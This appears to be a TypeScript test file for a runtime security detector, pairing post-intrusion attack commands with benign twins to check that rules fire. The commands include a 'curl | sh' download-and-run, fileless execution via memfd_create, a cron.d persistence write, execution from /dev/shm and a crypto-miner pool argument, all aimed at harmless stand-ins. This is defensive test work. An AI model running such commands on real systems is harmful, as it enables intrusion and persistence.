// SPDX-FileCopyrightText: Bartizan contributors
// SPDX-License-Identifier: Apache-2.0

import { type AttackCase, AttackStage } from '@bartizan/testkit/attack';
import { describeAttacks } from '../attack-suite.ts';

/** Runs a program from memory only (attack) or from its file (twin), both by descriptor. */
const byDescriptor = (isAttack: boolean): string =>
  [
    'import os',
    ...(isAttack
      ? ['end = os.memfd_create("worker")', 'os.write(end, open("/bin/true", "rb").read())']
      : ['end = os.open("/bin/true", os.O_RDONLY)']),
    'os.execve(end, ["true"], {})',
    '',
  ].join('\n');

const cases: readonly AttackCase[] = [
  {
    name: 'a program that exists in memory only',
    rule: 'runtime.fileless-execution',
    attack: ['/usr/bin/python3', '/opt/attack.py'],
    twin: ['/usr/bin/python3', '/opt/twin.py'],
    expected: {
      severity: 'critical',
      program: 'memfd:worker',
      because: ['process.fileless'],
      owasp: { 2022: ['K05'], 2025: ['K10'] },
      technique: 'T1620',
    },
  },
  {
    name: 'a miner by its pool',
    rule: 'runtime.crypto-miner',
    attack: ['/bin/true', '-o', 'stratum+tcp://pool.example:3333', '-u', 'wallet'],
    twin: ['/bin/true', '-o', 'https://pool.example:3333', '-u', 'wallet'],
    expected: {
      severity: 'critical',
      program: 'true',
      because: ['process.command-line'],
      owasp: { 2022: ['K04'], 2025: ['K04'] },
      technique: 'T1496',
    },
  },
  {
    name: 'download and run in one go',
    rule: 'runtime.download-and-run',
    attack: ['/bin/sh', '-c', 'curl -s http://127.0.0.1:9/x | sh'],
    twin: ['/bin/sh', '-c', 'curl -s http://127.0.0.1:9/x | cat'],
    expected: {
      severity: 'high',
      program: 'dash',
      because: ['process.name', 'process.command-line', 'process.command-line', 'process.command-line'],
      owasp: { 2022: ['K02'], 2025: ['K04'] },
      technique: 'T1105',
    },
  },
  {
    name: 'a scheduled task for later',
    rule: 'runtime.persistence-write',
    attack: ['/bin/sh', '-c', 'mkdir -p /etc/cron.d; : > /etc/cron.d/later'],
    twin: ['/bin/sh', '-c', 'mkdir -p /etc/other; : > /etc/other/later'],
    expected: {
      severity: 'high',
      program: 'dash',
      because: ['file.access', 'file.path', 'process.name', 'process.executable'],
      owasp: { 2022: ['K01'], 2025: ['K01'] },
      technique: 'T1053.003',
    },
  },
  {
    name: 'a program in shared memory',
    rule: 'runtime.execution-from-shared-memory',
    attack: ['/bin/sh', '-c', 'mkdir -p /dev/shm; cp /bin/true /dev/shm/worker; /dev/shm/worker'],
    twin: ['/bin/sh', '-c', 'mkdir -p /dev/other; cp /bin/true /dev/other/worker; /dev/other/worker'],
    expected: {
      severity: 'high',
      program: 'worker',
      because: ['process.executable'],
      owasp: { 2022: ['K05'], 2025: ['K10'] },
      technique: 'T1059',
    },
  },
];
const stage = new AttackStage({
  rules: cases.map(({ rule }) => rule),
  files: { '/opt/attack.py': { text: byDescriptor(true) }, '/opt/twin.py': { text: byDescriptor(false) } },
});

describeAttacks('other ways to go on after a break-in', { stage, cases });
